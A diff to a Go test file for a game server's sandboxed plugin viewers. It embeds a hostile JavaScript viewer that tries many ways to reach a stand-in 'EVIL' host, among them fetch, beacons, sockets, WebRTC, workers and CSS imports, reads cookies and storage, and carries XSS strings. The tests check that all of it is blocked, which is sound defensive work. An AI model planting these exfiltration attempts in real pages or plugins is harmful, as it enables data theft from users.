@@ -1,7 +1,7 @@
 package browser
 
 import (
-	"fmt"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"strings"
@@ -19,16 +19,20 @@ func TestABrokenViewerGivesWayToTheText(t *testing.T) {
 		{"throws when it draws", head + "export function read() {} export function draw() { throw new Error('no picture'); }", "no picture"},
 		{"throws later", head + "export function read() {} export function draw() { setTimeout(() => { throw new Error('too late'); }, 10); return ''; }", "too late"},
 		{"never ends", head + "export function read() { for (;;); } export function draw() { return ''; }", "does not answer"},
-		{"goes elsewhere", head + "export function read() {} export function draw() { location.href = '/'; return ''; }", "left its frame"},
+		{"goes elsewhere", head + "export function read() {} export function draw() { document.location.href = '/'; return ''; }", "document is not defined"},
+		{"draws what may not be", head + "export function read() {} export const draw = (_, { html }) => html('iframe', { src: '/' });", "draws no <iframe>"},
 	}
+	h := start(t, "roshambo")
+	shared := open(t, 800, 600)
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			h := startWith(t, tt.viewer)
+			b := *shared
+			b.t = t
+			writeViewer(t, h.plugins, tt.viewer)
 			alice := dial(t, h)
 			id := alice.create("broken", 100, 1)
 			alice.join(id, "alice")
 			alice.say("ROCK")
-			b := open(t, 800, 600)
 			b.visit(h.url + "/match/" + id)
 			b.await("document.querySelector('#notice').textContent.includes(" + quote(tt.says) + ")")
 			b.await("document.querySelector('pre.text').textContent.includes('ROCK')")
@@ -38,66 +42,110 @@ func TestABrokenViewerGivesWayToTheText(t *testing.T) {
 	}
 }
 
-// hostile tries to get out in every way that a page knows, and tells by its
-// caption what became of it.
+// hostile tries to get out in every way that a worker or a picture may have, and
+// tells by its picture what became of it.
 const hostile = `
 const out = {};
 const attempt = async (name, f) => {
-	try { out[name] = "DONE " + String(await f()).slice(0, 60); } catch (error) { out[name] = "refused"; }
+	const late = new Promise((_, no) => setTimeout(no, 1000));
+	try { out[name] = "DONE " + String(await Promise.race([f(), late])).slice(0, 60); } catch (error) { out[name] = "refused"; }
 };
 const evil = "EVIL";
+const opens = (C, address) => () => new Promise((yes, no) => { const s = new C(address); s.onopen = yes; s.onerror = no; });
+const code = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
 let tried = false;
 async function attack() {
 	await attempt("parent", () => parent.document.title);
-	await attempt("top", () => top.document.body.innerHTML);
-	await attempt("parent location", () => { top.location.href = evil + "/top"; return top.location.href; });
+	await attempt("document", () => document.cookie);
 	await attempt("storage", () => localStorage.getItem("name"));
-	await attempt("cookie", () => document.cookie);
+	await attempt("database", () => new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = no; }));
+	await attempt("caches", () => caches.open("x"));
 	await attempt("fetch", () => fetch(evil + "/fetch"));
-	await attempt("fetch home", () => fetch("/api/lobby"));
+	await attempt("fetch without an answer", () => fetch(evil + "/fetch", { mode: "no-cors", keepalive: true }));
+	await attempt("fetch home", () => fetch("HOME/api/lobby"));
+	await attempt("old fetch", () => { const r = new XMLHttpRequest(); r.open("GET", evil + "/xhr", false); r.send(); });
 	await attempt("import", () => import(evil + "/import.js"));
-	await attempt("import home", () => import("/assets/dom.js"));
-	await attempt("beacon", () => { if (!navigator.sendBeacon(evil + "/beacon")) throw 0; return new Promise((_, no) => setTimeout(no, 300)); });
-	await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket(evil.replace("http", "ws") + "/socket"); s.onopen = yes; s.onerror = no; }));
-	await attempt("socket home", () => new Promise((yes, no) => { const s = new WebSocket("ws://HOME/"); s.onopen = yes; s.onerror = no; }));
-	await attempt("image", () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = evil + "/image.png"; }));
-	await attempt("worker", () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + evil + "/worker').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => e.data ? yes() : no(); w.onerror = no; setTimeout(no, 1000); }));
-	await attempt("inline", () => new Promise((yes, no) => { globalThis.gotIn = yes; const s = document.createElement("script"); s.textContent = "gotIn()"; document.body.append(s); setTimeout(no, 200); }));
-	await attempt("frame", () => new Promise((yes, no) => { const f = document.createElement("iframe"); f.src = evil + "/frame"; document.body.append(f); setTimeout(no, 300); }));
-	await attempt("style", () => new Promise((yes, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = yes; l.onerror = no; l.href = evil + "/style.css"; document.head.append(l); setTimeout(no, 1000); }));
-	await attempt("popup", () => { const w = open(evil + "/popup"); if (!w) throw 0; });
-	await attempt("form", () => new Promise((yes, no) => { const f = document.createElement("form"); f.action = evil + "/form"; document.body.append(f); f.submit(); setTimeout(no, 300); }));
+	await attempt("import home", () => import("HOME/assets/dom.js"));
+	await attempt("old import", () => importScripts(evil + "/import.js"));
+	await attempt("beacon", () => { if (!navigator.sendBeacon(evil + "/beacon")) throw 0; });
+	await attempt("socket", opens(WebSocket, evil.replace("http", "ws") + "/socket"));
+	await attempt("socket home", opens(WebSocket, "HOME/".replace("http", "ws")));
+	await attempt("events", opens(EventSource, evil + "/events"));
+	await attempt("transport", () => new WebTransport(evil.replace("http:", "https:") + "/").ready);
+	await attempt("call", () => {
+		const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }] });
+		c.createDataChannel("x");
+		c.createOffer().then((o) => c.setLocalDescription(o));
+		return new Promise((yes) => setTimeout(yes, 500));
+	});
+	await attempt("worker", () => new Promise((yes, no) => {
+		const w = new Worker(code("fetch('" + evil + "/worker').then(() => postMessage(1), () => postMessage(0))"));
+		w.onmessage = (e) => e.data ? yes() : no();
+		w.onerror = no;
+	}));
+	await attempt("worker from there", () => new Promise((yes, no) => { const w = new Worker(evil + "/worker.js"); w.onmessage = yes; w.onerror = no; }));
+	await attempt("leaving", () => { location.href = evil + "/"; throw 0; });
+	await attempt("popup", () => open(evil + "/popup"));
 	out.finished = "yes";
 }
 export const start = () => ({});
 export function read() {}
 export function draw(state, page) {
 	if (!tried) { tried = true; attack().then(() => page.redraw()); }
-	parent.postMessage({ send: "ROCK" }, "*");
+	postMessage({ send: "ROCK", height: "x", moves: [{ at: {}, text: { a: 1 }, seat: -5 }], code: "", room: "x" });
 	page.send("ROCK");
-	const pre = document.createElement("pre");
-	pre.id = "out";
-	pre.textContent = JSON.stringify(out);
-	return pre;
+	return page.html("pre", { id: "out", style: "background: url(" + evil + "/style)" },
+		page.html("style", null, "@import url(" + evil + "/import); pre { background: url(" + evil + "/css) } @font-face { font-family: x; src: url(" + evil + "/font) } b { font-family: x }"),
+		page.html("b", null, "<img src=" + evil + "/markup>"), JSON.stringify(out));
 }
 export const status = () => ({
-	caption: "<img src=x onerror=alert(1)>", turn: "x", seat: -1, players: [{ name: "<script>alert(1)</script>", score: { toString: null } }, null, 7],
+	caption: "<img src=x onerror=alert(1)>", goal: { a: 1 }, turn: "x", seat: -1,
+	players: [{ name: "<script>alert(1)</script>", marker: "evil", score: { toString: null } }, null, 7],
 	choices: [{ line: { a: 1 }, label: "<b>" }],
 });
 `
 
-func TestAHostileViewerReachesNobody(t *testing.T) {
-	var requests atomic.Int64
-	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		requests.Add(1)
+// outside is a server that nobody should reach.
+type outside struct {
+	url, stun string
+	reached   atomic.Int64 // connections, even if nothing is asked, and calls
+}
+
+func newOutside(t *testing.T) *outside {
+	t.Helper()
+	o := &outside{}
+	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		t.Logf("the viewer reached %s", r.URL.Path)
 		w.Header().Set("Access-Control-Allow-Origin", "*")
 	}))
-	defer evil.Close()
-	needBrowser(t)
-	plugins := folder(t, []string{"roshambo"}, nil)
-	h := serve(t, plugins, t.TempDir(), "127.0.0.1:0")
-	writeViewer(t, plugins, strings.NewReplacer("EVIL", evil.URL, "HOME", strings.TrimPrefix(h.url, "http://")).Replace(hostile))
+	server.Config.ConnState = func(_ net.Conn, state http.ConnState) {
+		if state == http.StateNew {
+			o.reached.Add(1)
+		}
+	}
+	server.Start()
+	t.Cleanup(server.Close)
+	stun, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = stun.Close() })
+	go func() { // ends when stun is closed
+		for {
+			if _, _, err := stun.ReadFrom(make([]byte, 2000)); err != nil {
+				return
+			}
+			o.reached.Add(1)
+		}
+	}()
+	o.url, o.stun = server.URL, stun.LocalAddr().String()
+	return o
+}
+
+func TestAHostileViewerReachesNobody(t *testing.T) {
+	h := start(t, "roshambo")
+	evil := newOutside(t)
+	writeViewer(t, h.plugins, strings.NewReplacer("EVIL", evil.url, "STUN", evil.stun, "HOME", h.url).Replace(hostile))
 	alice := dial(t, h)
 	id := alice.create("hostile", 100, 1)
 	alice.join(id, "alice")
@@ -119,23 +167,7 @@ func TestAHostileViewerReachesNobody(t *testing.T) {
 	if n := b.text("document.querySelectorAll('#caption *, #players script, #choices button').length"); n != "0" {
 		t.Errorf("%s elements of the viewer are in the page", n)
 	}
-	if n := requests.Load(); n != 0 {
-		t.Errorf("%d requests went out", n)
-	}
-}
-
-func TestAViewerThatLeavesItsFrameTakesNothingWithIt(t *testing.T) {
-	var requests atomic.Int64
-	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { requests.Add(1) }))
-	defer evil.Close()
-	h := startWith(t, fmt.Sprintf(`export const start = () => ({}); export function read() {} export function draw() { location.href = %q; return ""; }`, evil.URL+"/?secret"))
-	alice := dial(t, h)
-	id := alice.create("leaves", 100, 1)
-	alice.join(id, "alice")
-	b := open(t, 1000, 700)
-	b.visit(h.url + "/match/" + id)
-	b.await("document.querySelector('#notice').textContent.includes('failed')")
-	if n := requests.Load(); n != 0 {
-		t.Errorf("%d requests went out", n)
+	if n := evil.reached.Load(); n != 0 {
+		t.Errorf("%d connections or calls went out", n)
 	}
 }
